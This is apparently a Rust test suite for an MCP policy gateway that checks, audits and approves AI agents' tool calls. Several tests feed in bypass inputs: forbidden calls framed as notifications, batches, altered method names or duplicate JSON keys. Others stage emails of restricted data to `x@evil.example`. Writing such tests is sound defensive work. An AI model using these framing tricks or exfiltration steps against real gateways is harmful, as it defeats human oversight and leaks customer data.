//! `ward mcp-proxy` hardened (issue 15): every message that can run a tool is
//! decided whatever its framing; the gateway refuses to start on a policy it
//! cannot stand behind; reload, shared state, approvals by elicitation, the
//! audit outcome. Driven through the real binary, against a lenient server
//! (tests/mcp/lenient_server.py: it runs a tool for anything that looks like a
//! tool call) and the official MCP Python SDK.

#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic, clippy::indexing_slicing)]

#[path = "support/mcp.rs"]
mod support;

use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::{Value as Json, json};
use support::*;

/// The proxy in front of the lenient server, logging to `dir/server.jsonl`
/// and auditing to `dir/audit.jsonl`.
fn lenient_proxy(py: &Path, dir: &Path, agent: &str, extra: &[&str]) -> Proxy {
    let mut args: Vec<String> = vec!["--policy".into(), example_policy(), "--agent".into(), agent.into()];
    args.extend(["--audit-log".into(), dir.join("audit.jsonl").display().to_string()]);
    args.extend(extra.iter().map(|s| s.to_string()));
    let log = dir.join("server.jsonl");
    Proxy::start(&args, &[py.display().to_string(), lenient_script()], &[("LENIENT_LOG", log.to_str().unwrap())])
}

fn call(id: Option<i64>, method: &str, tool: &str, arguments: Json) -> Json {
    let mut m = json!({"jsonrpc": "2.0", "method": method, "params": {"name": tool, "arguments": arguments}});
    if let Some(id) = id {
        m["id"] = json!(id);
    }
    m
}

fn delete(id: Option<i64>, method: &str) -> Json {
    call(id, method, "delete_customer", json!({"customer_id": "c-17", "reason": "asked"}))
}

/// A ping answered means the server has read everything sent before it.
fn sync(proxy: &mut Proxy, id: i64) {
    let answer = proxy.request(id, "ping", json!({}));
    assert!(answer.get("result").is_some(), "{answer}");
}

#[test]
fn a_tool_call_is_decided_whatever_its_framing_over_stdio() {
    let Some(py) = python() else { return };
    let dir = tempdir("framing-stdio");
    let mut proxy = lenient_proxy(py, &dir, "support_bot", &[]);
    proxy.initialize(json!({}));

    // The reference: a forbidden call as a request is refused.
    let answer = proxy.request(1, "tools/call", delete(None, "tools/call")["params"].clone());
    assert_eq!(error_code(&answer), -32001, "{answer}");

    // As a notification (no id): the server would run it and nobody would see an answer.
    proxy.send(&delete(None, "tools/call"));
    // Inside a batch, as a notification and next to a harmless request.
    proxy.send(&json!([{"jsonrpc": "2.0", "id": 2, "method": "ping"}, delete(None, "tools/call")]));
    let (pong, _) = proxy.until(&json!(2));
    assert!(pong.get("result").is_some(), "{pong}");
    // Methods a lenient server takes for `tools/call`.
    for (id, method) in [(3, "Tools/Call"), (4, "tools.call"), (5, "tools/call/"), (6, " tools/call")] {
        let answer = proxy.request(id, method, delete(None, method)["params"].clone());
        assert_eq!(error_code(&answer), -32601, "{method}: {answer}");
        assert!(error_message(&answer).contains("tools/call"), "{answer}");
    }
    proxy.send(&delete(None, "TOOLS/CALL"));
    // A method the gateway does not know may run anything: refused, not guessed at.
    let answer = proxy.request(7, "tools/execute", delete(None, "x")["params"].clone());
    assert_eq!(error_code(&answer), -32601, "{answer}");
    // Duplicate keys: serde_json keeps the last `method`, this server the first.
    proxy.send_raw(
        r#"{"jsonrpc":"2.0","id":8,"method":"tools/call","method":"ping","params":{"name":"delete_customer","arguments":{"customer_id":"c-17","reason":"asked"}}}"#,
    );
    // Not read at all, so not even its id: the answer's id is null (JSON-RPC 2.0 §5).
    let (answer, _) = proxy.until(&Json::Null);
    assert_eq!(error_code(&answer), -32600, "{answer}");
    assert!(error_message(&answer).contains("method"), "{answer}");
    sync(&mut proxy, 9);

    let (received, ran) = lenient_log(&dir.join("server.jsonl"));
    assert!(ran.is_empty(), "the server ran {ran:?}; it received {received:#?}");
    // What is not a tool call still passes.
    assert!(received.iter().any(|m| m["method"] == "ping"), "{received:?}");

    // Every refused tool call is in the audit log, whatever its framing.
    let records = audit_records(&dir.join("audit.jsonl"));
    let denies = records.iter().filter(|r| r["action"] == "delete_customer" && r["effect"] == "deny").count();
    assert!(denies >= 8, "{records:#?}");
    drop(proxy);
    audit_verifies(&dir.join("audit.jsonl"));
}

/// The proxy in HTTP mode in front of the lenient server's HTTP mode.
struct HttpSetup {
    _server: Killed,
    _proxy: Killed,
    addr: String,
    log: PathBuf,
}

fn http_setup(py: &Path, dir: &Path) -> HttpSetup {
    let port = free_port();
    let log = dir.join("server.jsonl");
    let server = Killed(
        Command::new(py)
            .arg(lenient_script())
            .args(["--http", &port.to_string()])
            .env("LENIENT_LOG", &log)
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::null())
            .spawn()
            .unwrap(),
    );
    eventually("the lenient HTTP server", || std::net::TcpStream::connect(("127.0.0.1", port)).is_ok());
    let mut proxy = Killed(
        Command::new(ward())
            .args(["mcp-proxy", "--policy", &example_policy(), "--agent", "support_bot", "--listen", "127.0.0.1:0"])
            .args(["--upstream", &format!("http://127.0.0.1:{port}/mcp")])
            .stdout(std::process::Stdio::null())
            .stderr(std::process::Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let addr = proxy.listening_address();
    HttpSetup { _server: server, _proxy: proxy, addr, log }
}

/// One raw HTTP/1.1 exchange: (status, body).
fn http(addr: &str, method: &str, body: &str) -> (u16, String) {
    use std::io::{Read, Write};
    let mut s = std::net::TcpStream::connect(addr).unwrap();
    s.set_read_timeout(Some(std::time::Duration::from_secs(60))).unwrap();
    let head = format!(
        "{method} /mcp HTTP/1.1\r\nHost: {addr}\r\nContent-Type: application/json\r\nAccept: application/json, text/event-stream\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
        body.len()
    );
    s.write_all(head.as_bytes()).unwrap();
    s.write_all(body.as_bytes()).unwrap();
    let mut out = String::new();
    s.read_to_string(&mut out).unwrap();
    let status = out.split_whitespace().nth(1).and_then(|c| c.parse().ok()).unwrap_or(0);
    let body = out.split_once("\r\n\r\n").map(|(_, b)| b.to_string()).unwrap_or_default();
    (status, body)
}

#[test]
fn a_tool_call_is_decided_whatever_its_framing_over_http() {
    let Some(py) = python() else { return };
    let dir = tempdir("framing-http");
    let s = http_setup(py, &dir);
    let (status, body) = http(&s.addr, "POST", &delete(Some(1), "tools/call").to_string());
    assert_eq!(status, 200);
    assert!(body.contains("-32001"), "{body}");

    let cases = [
        ("POST", delete(None, "tools/call").to_string()),
        ("POST", json!([delete(None, "tools/call")]).to_string()),
        ("POST", json!([{"jsonrpc": "2.0", "method": "notifications/initialized"}, delete(None, "tools/call")]).to_string()),
        ("POST", delete(Some(2), "Tools/Call").to_string()),
        ("POST", delete(Some(3), "tools.call").to_string()),
        ("POST", delete(Some(4), "tools/execute").to_string()),
        (
            "POST",
            r#"{"jsonrpc":"2.0","id":5,"method":"tools/call","method":"ping","params":{"name":"delete_customer","arguments":{"customer_id":"c-17","reason":"asked"}}}"#.to_string(),
        ),
        // Bodies on methods that carry no client message are not forwarded either.
        ("PUT", delete(Some(6), "tools/call").to_string()),
        ("PATCH", delete(Some(7), "tools/call").to_string()),
        ("GET", delete(Some(8), "tools/call").to_string()),
        ("DELETE", delete(Some(9), "tools/call").to_string()),
    ];
    for (method, body) in &cases {
        let (status, answer) = http(&s.addr, method, body);
        assert!(status == 400 || status == 405 || answer.contains("\"error\""), "{method} {body}: {status} {answer}");
    }
    // A harmless notification still passes.
    let (status, _) =
        http(&s.addr, "POST", &json!({"jsonrpc": "2.0", "method": "notifications/initialized"}).to_string());
    assert!(status < 300, "{status}");
    let (received, ran) = lenient_log(&s.log);
    assert!(ran.is_empty(), "the server ran {ran:?}; it received {received:#?}");
    assert!(received.iter().any(|m| m["method"] == "notifications/initialized"), "{received:?}");
}

fn proxy_exit(args: &[&str]) -> (bool, String, PathBuf) {
    let dir = tempdir(&format!("start-{}", args.len()));
    let marker = dir.join("server-started");
    let out = Command::new(ward())
        .arg("mcp-proxy")
        .args(args)
        .args(["--", "sh", "-c", &format!("touch {} && cat", marker.display())])
        .env("NO_COLOR", "1")
        .stdin(std::process::Stdio::null())
        .output()
        .unwrap();
    let text = format!("{}{}", String::from_utf8_lossy(&out.stdout), String::from_utf8_lossy(&out.stderr));
    (out.status.success(), text, marker)
}

#[test]
fn a_missing_or_empty_policy_stops_the_gateway_before_the_server_starts() {
    let dir = tempdir("no-policy");
    let empty = dir.join("empty");
    std::fs::create_dir_all(&empty).unwrap();
    let missing = dir.join("no-such-dir");
    for (path, expect) in [(&missing, "no-such-dir"), (&empty, "no `.ward` files")] {
        let (ok, text, marker) = proxy_exit(&["--policy", path.to_str().unwrap(), "--agent", "support_bot"]);
        assert!(!ok, "started with {}: {text}", path.display());
        assert!(text.contains(expect), "{text}");
        assert!(!marker.exists(), "the server was started: {text}");
    }
}

#[test]
fn policy_errors_at_start_are_shown_with_line_column_and_help() {
    let dir = tempdir("bad-policy");
    for f in ["schema.ward", "tests.ward"] {
        std::fs::copy(repo().join("examples/mcp-gateway").join(f), dir.join(f)).unwrap();
    }
    let policy = std::fs::read_to_string(repo().join("examples/mcp-gateway/policy.ward")).unwrap();
    // A misspelt action, on a known line.
    let bad = policy.replace("action: lookup_customer\n", "action: lookup_custmer\n");
    assert_ne!(bad, policy);
    std::fs::write(dir.join("policy.ward"), &bad).unwrap();
    let line = bad.lines().position(|l| l.contains("lookup_custmer")).unwrap() + 1;
    let column = bad.lines().nth(line - 1).unwrap().find("lookup_custmer").unwrap() + 1;
    let (ok, text, marker) = proxy_exit(&["--policy", dir.to_str().unwrap(), "--agent", "support_bot"]);
    assert!(!ok && !marker.exists(), "{text}");
    let at = format!("policy.ward:{line}:{column}");
    assert!(text.contains(&at), "expected `{at}` in:\n{text}");
    assert!(text.contains("lookup_customer"), "the did-you-mean help: {text}");
    assert!(!text.contains("policy.ward@"), "byte offsets: {text}");
}

#[test]
fn an_undeclared_agent_is_refused_at_start() {
    let (ok, text, marker) = proxy_exit(&["--policy", &example_policy(), "--agent", "suport_bot"]);
    assert!(!ok && !marker.exists(), "{text}");
    assert!(text.contains("suport_bot") && text.contains("support_bot"), "{text}");
    // Declared in the entities instead: accepted.
    let dir = tempdir("agent-entity");
    let entities = dir.join("entities.json");
    std::fs::write(
        &entities,
        r#"[{"uid": {"type": "Agent", "id": "night_bot"}, "attrs": {"clearance": "public"}, "parents": []}]"#,
    )
    .unwrap();
    let (ok, text, marker) =
        proxy_exit(&["--policy", &example_policy(), "--agent", "night_bot", "--entities", entities.to_str().unwrap()]);
    assert!(ok, "{text}");
    assert!(marker.exists(), "{text}");
}

/// A copy of the example policy in `dir/policy`, with `edit` applied to policy.ward.
fn policy_copy(dir: &Path, edit: impl Fn(&str) -> String) -> PathBuf {
    let to = dir.join("policy");
    std::fs::create_dir_all(&to).unwrap();
    // Without tests.ward: its tests name rules the edits remove.
    for f in ["schema.ward", "policy.ward"] {
        let text = std::fs::read_to_string(repo().join("examples/mcp-gateway").join(f)).unwrap();
        let text = if f == "policy.ward" { edit(&text) } else { text };
        std::fs::write(to.join(f), text).unwrap();
    }
    to
}

/// Replaces `policy.ward` atomically (write, then rename), as an editor or a deploy does.
fn replace_policy(dir: &Path, text: &str) {
    let tmp = dir.join("policy.ward.tmp");
    std::fs::write(&tmp, text).unwrap();
    std::fs::rename(&tmp, dir.join("policy.ward")).unwrap();
}

const ALLOW_DELETES: &str = "@id(\"no-deletes\")\n  @reason(\"Agents never delete customers; a person does, in the CRM\")\n  @severity(high)\n  forbid action: delete_customer\n";

fn allowing_deletes(policy: &str) -> String {
    let out = policy.replace(
        ALLOW_DELETES,
        "@id(\"support-deletes\")\n  permit principal in Team::\"support\", action: delete_customer\n",
    );
    assert_ne!(out, policy, "the example policy changed: update ALLOW_DELETES");
    out
}

fn delete_answer(proxy: &mut Proxy, id: i64) -> Json {
    proxy.request(id, "tools/call", delete(None, "tools/call")["params"].clone())
}

#[test]
fn the_gateway_reloads_on_sighup_and_keeps_the_old_policy_when_the_new_one_is_bad() {
    let Some(py) = python() else { return };
    let dir = tempdir("reload-hup");
    let policy = policy_copy(&dir, str::to_string);
    let original = std::fs::read_to_string(policy.join("policy.ward")).unwrap();
    let args: Vec<String> = ["--policy", policy.to_str().unwrap(), "--agent", "support_bot", "--watch-interval", "0"]
        .map(String::from)
        .to_vec();
    let log = dir.join("server.jsonl");
    let mut proxy =
        Proxy::start(&args, &[py.display().to_string(), lenient_script()], &[("LENIENT_LOG", log.to_str().unwrap())]);
    proxy.initialize(json!({}));
    assert_eq!(error_code(&delete_answer(&mut proxy, 1)), -32001);

    // SIGHUP with nothing changed: the gateway stays up (it used to die of it).
    let hup = |pid: u32| assert!(Command::new("kill").args(["-HUP", &pid.to_string()]).status().unwrap().success());
    hup(proxy.pid());
    sync(&mut proxy, 2);

    // The policy now lets support delete: after SIGHUP, deletes go through.
    replace_policy(&policy, &allowing_deletes(&original));
    hup(proxy.pid());
    let mut id = 10;
    eventually("the reload on SIGHUP", || {
        id += 1;
        delete_answer(&mut proxy, id).get("result").is_some()
    });

    // A broken policy is refused with a located diagnostic; the last good one keeps serving.
    replace_policy(&policy, &original.replace("action: lookup_customer\n", "action: lookup_custmer\n"));
    hup(proxy.pid());
    eventually("the refusal to be logged", || proxy.stderr().contains("reload on SIGHUP refused"));
    let said = proxy.stderr();
    assert!(said.contains("policy.ward:"), "{said}");
    assert!(delete_answer(&mut proxy, 100).get("result").is_some(), "the last good policy still serves");
}

#[test]
fn the_gateway_reloads_when_the_policy_files_change() {
    let Some(py) = python() else { return };
    let dir = tempdir("reload-watch");
    let policy = policy_copy(&dir, str::to_string);
    let original = std::fs::read_to_string(policy.join("policy.ward")).unwrap();
    let args: Vec<String> =
        ["--policy", policy.to_str().unwrap(), "--agent", "support_bot", "--watch-interval", "100ms"]
            .map(String::from)
            .to_vec();
    let mut proxy = Proxy::start(&args, &[py.display().to_string(), lenient_script()], &[]);
    proxy.initialize(json!({}));
    assert_eq!(error_code(&delete_answer(&mut proxy, 1)), -32001);
    replace_policy(&policy, &allowing_deletes(&original));
    let mut id = 10;
    eventually("the reload on a file change", || {
        id += 1;
        delete_answer(&mut proxy, id).get("result").is_some()
    });
    // A new file in the directory is seen too.
    std::fs::write(
        policy.join("extra.ward"),
        "policy extra {\n  @id(\"no-deletes-again\")\n  forbid action: delete_customer\n}\n",
    )
    .unwrap();
    eventually("the reload on a new file", || {
        id += 1;
        delete_answer(&mut proxy, id).get("error").is_some()
    });
}

#[test]
fn limits_and_flows_hold_across_restarts_and_replicas_with_redis() {
    let Some(py) = python() else { return };
    let Some(redis) = ward_testkit::redis::RedisServer::start() else { return };
    let dir = tempdir("redis-state");
    let start = |agent: &str, session: &str| {
        let args: Vec<String> =
            ["--policy", &example_policy(), "--agent", agent, "--state", &redis.url(), "--session", session]
                .map(String::from)
                .to_vec();
        let mut p = Proxy::start(&args, &[py.display().to_string(), lenient_script()], &[]);
        p.initialize(json!({}));
        p
    };
    let mail = |p: &mut Proxy, id: i64| {
        p.request(
            id,
            "tools/call",
            json!({"name": "send_email", "arguments": {"to": "a@b.example", "subject": "s", "body": "b"}}),
        )
    };
    // A restricted read in one run of the gateway ...
    let mut first = start("records_bot", "case-1");
    let answer =
        first.request(1, "tools/call", json!({"name": "read_restricted_record", "arguments": {"record_id": "r-9"}}));
    assert!(answer.get("result").is_some(), "{answer}");
    assert!(first.finish().success());
    // ... is remembered by the next run with the same session ...
    let mut second = start("records_bot", "case-1");
    let answer = mail(&mut second, 1);
    assert_eq!(error_code(&answer), -32001, "{answer}");
    assert!(error_message(&answer).contains("no-mail-after-restricted-read"), "{answer}");
    // ... and by a new session of the same agent (the rule is `by principal`:
    // reconnecting must not wash the read away).
    let mut other = start("records_bot", "case-2");
    let answer = mail(&mut other, 1);
    assert!(error_message(&answer).contains("no-mail-after-restricted-read"), "{answer}");

    // Two replicas at once, in two sessions, spend one agent's budget (5 per hour) exactly.
    let (mut a, mut b) = (start("support_bot", "case-3"), start("support_bot", "case-4"));
    let mut allowed = 0;
    for i in 0..8 {
        let p = if i % 2 == 0 { &mut a } else { &mut b };
        let answer = mail(p, 10 + i);
        if answer.get("result").is_some() {
            allowed += 1;
        } else {
            assert!(error_message(&answer).contains("mail-rate"), "{answer}");
        }
    }
    assert_eq!(allowed, 5, "the replicas together spend exactly the budget");
    drop(dir);
}

/// The example policy with deletes needing a supervisor's approval instead of forbidden.
fn approval_policy(dir: &Path) -> String {
    policy_copy(dir, |p| {
        let out = p.replace(
            ALLOW_DELETES,
            &format!(
                "{ALLOW_DELETES}    obligation require_approval(role: \"supervisor\")\n\n  \
                 @id(\"support-deletes\")\n  permit principal in Team::\"support\", action: delete_customer\n"
            ),
        );
        assert_ne!(out, p);
        out
    })
    .display()
    .to_string()
}

#[test]
fn approvals_are_asked_of_the_clients_user_and_audited() {
    let Some(py) = python() else { return };
    let dir = tempdir("approvals");
    let policy = approval_policy(&dir);
    let audit = dir.join("audit.jsonl");
    let audit_arg = audit.to_str().unwrap();
    let delete = json!(["call", "delete_customer", {"customer_id": "c-17", "reason": "duplicate record"}]);

    // A client whose user can be asked: the tool is listed, the user approves, the call runs.
    let answers = drive_with(
        py,
        "legacy",
        &policy,
        "support_bot",
        &["--audit-log", audit_arg],
        &["--approve", "Dana Okafor"],
        json!([["list"], delete]),
    );
    let names: Vec<&str> = answers[0]["tools"].as_array().unwrap().iter().filter_map(Json::as_str).collect();
    assert!(names.contains(&"delete_customer"), "{names:?}");
    let result = &answers[1]["result"]["content"][0]["text"];
    assert_eq!(result, "deleted c-17", "{}", answers[1]);
    let asked = answers[1]["elicited"][0].as_str().unwrap_or_else(|| panic!("not asked: {}", answers[1]));
    assert!(asked.contains("Agents never delete customers") && asked.contains("supervisor"), "{asked}");
    let records = audit_records(&audit);
    let approved: Vec<&Json> = records.iter().filter(|r| r.get("approved_by").is_some()).collect();
    assert_eq!(approved.len(), 1, "{records:#?}");
    assert!(approved[0]["approved_by"].as_str().unwrap().contains("Dana Okafor"), "{records:#?}");
    assert_eq!(approved[0]["effect"], "allow");
    assert!(records.iter().any(|r| r["effect"] == "approval_required"), "{records:#?}");
    // The call's outcome completes the approval's record.
    let outcome = records.iter().find(|r| r["action"] == "delete_customer" && r.get("outcome").is_some()).unwrap();
    assert_eq!(outcome["outcome"], "ok");
    assert_eq!(outcome["decision_seq"], approved[0]["seq"], "{records:#?}");

    // The user declines: refused, with the reason.
    let answers =
        drive_with(py, "legacy", &policy, "support_bot", &["--audit-log", audit_arg], &["--decline"], json!([delete]));
    assert_eq!(answers[0]["error"]["code"], -32002, "{}", answers[0]);
    assert!(answers[0]["error"]["message"].as_str().unwrap().contains("declined"), "{}", answers[0]);

    // A client that cannot ask its user: the tool is not listed, and a call is refused.
    let answers =
        drive_with(py, "legacy", &policy, "support_bot", &["--audit-log", audit_arg], &[], json!([["list"], delete]));
    let names: Vec<&str> = answers[0]["tools"].as_array().unwrap().iter().filter_map(Json::as_str).collect();
    assert!(!names.contains(&"delete_customer"), "{names:?}");
    assert_eq!(answers[1]["error"]["code"], -32002, "{}", answers[1]);
    audit_verifies(&audit);
}

#[test]
fn the_audit_log_records_what_became_of_each_forwarded_call() {
    let Some(py) = python() else { return };
    let dir = tempdir("outcome");
    let audit = dir.join("audit.jsonl");
    let answers = drive_with(
        py,
        "legacy",
        &example_policy(),
        "gateway_probe",
        &["--audit-log", audit.to_str().unwrap(), "--timeout", "10s"],
        &[],
        json!([
            ["call", "lookup_customer", {"customer_id": "c-17"}],
            // The tool fails (time.sleep(-1)): an error result.
            ["call", "hang", {"seconds": -1}],
            ["call", "delete_customer", {"customer_id": "c-17", "reason": "asked"}],
            // The tool's error text is not JSON, so `response.ssn` cannot be masked in it: withheld.
            ["call", "lookup_customer", {"customer_id": "c-99"}],
            ["call", "hang", {"seconds": 120}],
            ["call", "crash", {}],
        ]),
    );
    // @severity is in the error's data ...
    assert_eq!(answers[2]["error"]["data"]["ward"]["severity"], "high", "{}", answers[2]);
    assert_eq!(answers[3]["error"]["code"], -32001, "withheld: {}", answers[3]);
    let records = audit_records(&audit);
    // ... and in the audit record.
    let deny = records.iter().find(|r| r["action"] == "delete_customer").unwrap();
    assert_eq!(deny["severity"], "high", "{deny}");
    // Each forwarded call is followed by what became of it, pointing back at its decision.
    let outcomes: Vec<(String, String)> = records
        .iter()
        .filter_map(|r| Some((r["action"].as_str()?.to_string(), r.get("outcome")?.as_str()?.to_string())))
        .collect();
    assert_eq!(
        outcomes,
        [
            ("lookup_customer".to_string(), "ok".to_string()),
            ("hang".to_string(), "error".to_string()),
            ("lookup_customer".to_string(), "withheld".to_string()),
            ("hang".to_string(), "timeout".to_string()),
            ("crash".to_string(), "server_gone".to_string()),
        ],
        "{records:#?}"
    );
    for r in records.iter().filter(|r| r.get("outcome").is_some()) {
        let of = r["decision_seq"].as_u64().unwrap_or_else(|| panic!("{r}"));
        let decided = records.iter().find(|d| d["seq"].as_u64() == Some(of)).unwrap();
        assert_eq!((decided["action"].clone(), decided["effect"].clone()), (r["action"].clone(), json!("allow")));
        assert!(decided.get("outcome").is_none(), "{decided}");
    }
    audit_verifies(&audit);
}

#[test]
fn denials_say_what_decided_and_what_would_allow_it() {
    let Some(py) = python() else { return };
    let dir = tempdir("messages");
    // A flow rule whose flow condition is not its last condition.
    let policy = policy_copy(&dir, |p| {
        p.replace(
            "forbid action: send_email\n    when previously within 1h action: read_restricted_record\n",
            "forbid action: send_email\n    when previously within 1h action: read_restricted_record\n    unless context.subject == \"cleared by legal\"\n",
        )
    });
    let answers = drive_with(
        py,
        "legacy",
        policy.to_str().unwrap(),
        "records_bot",
        &[],
        &[],
        json!([
            ["call", "read_restricted_record", {"record_id": "r-9"}],
            ["call", "send_email", {"to": "x@evil.example", "subject": "fyi", "body": "r-9"}],
        ]),
    );
    let message = answers[1]["error"]["message"].as_str().unwrap().to_string();
    assert!(message.contains("no-mail-after-restricted-read"), "{message}");
    assert!(message.contains("Nothing leaves by e-mail"), "{message}");
    assert!(
        message.contains("previously within 1h by principal action: read_restricted_record"),
        "the flow condition: {message}"
    );
    assert!(!message.contains("support-sends-mail"), "the permit that applied is not why: {message}");

    let answers = drive_with(
        py,
        "legacy",
        &example_policy(),
        "support_bot",
        &[],
        &[],
        json!([["call", "read_restricted_record", {"record_id": "r-9"}]]),
    );
    let message = answers[0]["error"]["message"].as_str().unwrap().to_string();
    assert!(message.contains("no rule permits"), "{message}");
    assert!(message.contains("records-team-reads-restricted"), "what would allow it: {message}");
    assert!(message.contains("principal in Team::\"records\""), "the condition it lacks: {message}");
    assert!(message.len() < 600, "short: {message}");
}

#[test]
fn a_fact_from_a_tool_result_decides_later_calls_of_the_session() {
    // The CRM scenario of issue 16: the customers' ids give no hint of their
    // tier; only the lookup's result says `"tier": "vip"` (c-17) or
    // `"standard"` (c-18). The example's result flow records what the agent
    // actually saw, and external mail is refused after a VIP's record.
    let Some(py) = python() else { return };
    let dir = tempdir("result-facts");
    let audit = dir.join("audit.jsonl");
    let answers = drive_with(
        py,
        "legacy",
        &example_policy(),
        "support_bot",
        &["--audit-log", audit.to_str().unwrap()],
        &[],
        json!([
            // The tool fails (no such customer): no result, no fact (and its
            // error text, not JSON, cannot be masked: withheld).
            ["call", "lookup_customer", {"customer_id": "c-99"}],
            ["call", "send_email", {"to": "x@evil.example", "subject": "a", "body": "b"}],
            // A standard customer: external mail still goes.
            ["call", "lookup_customer", {"customer_id": "c-18"}],
            ["call", "send_email", {"to": "bo.chen@example.org", "subject": "a", "body": "b"}],
            // A VIP: it does not, and mail inside acme.example does.
            ["call", "lookup_customer", {"customer_id": "c-17"}],
            ["call", "send_email", {"to": "x@evil.example", "subject": "fyi", "body": "b"}],
            ["call", "send_email", {"to": "ops@acme.example", "subject": "vip", "body": "b"}],
        ]),
    );
    assert!(error_message(&answers[0]).contains("mask"), "{}", answers[0]);
    for i in [1, 3, 6] {
        assert!(answers[i].get("result").is_some(), "step {i}: {}", answers[i]);
    }
    // The result was read before it was masked (the client sees the SSN redacted).
    let lookup = answers[4]["result"]["content"][0]["text"].as_str().unwrap();
    assert!(lookup.contains("[REDACTED]") && lookup.contains("\"vip\""), "{lookup}");
    assert_eq!(error_code(&answers[5]), -32001, "{}", answers[5]);
    let message = error_message(&answers[5]);
    assert!(message.contains("no-external-mail-after-vip-read"), "{message}");
    assert!(message.contains("mails no one outside acme.example"), "{message}");

    // The outcome records name the facts, never the values.
    let records = audit_records(&audit);
    let lookups: Vec<(&str, Json)> = records
        .iter()
        .filter(|r| r["action"] == "lookup_customer" && r.get("outcome").is_some())
        .map(|r| (r["outcome"].as_str().unwrap(), r.get("facts").cloned().unwrap_or(json!([]))))
        .collect();
    assert_eq!(
        lookups,
        [
            ("withheld", json!([])),
            ("ok", json!([])),
            ("ok", json!(["crm_gateway.no-external-mail-after-vip-read/previously"])),
        ],
        "{records:#?}"
    );
    assert!(!std::fs::read_to_string(&audit).unwrap().contains("vip\""), "no result value is logged");
    audit_verifies(&audit);
}
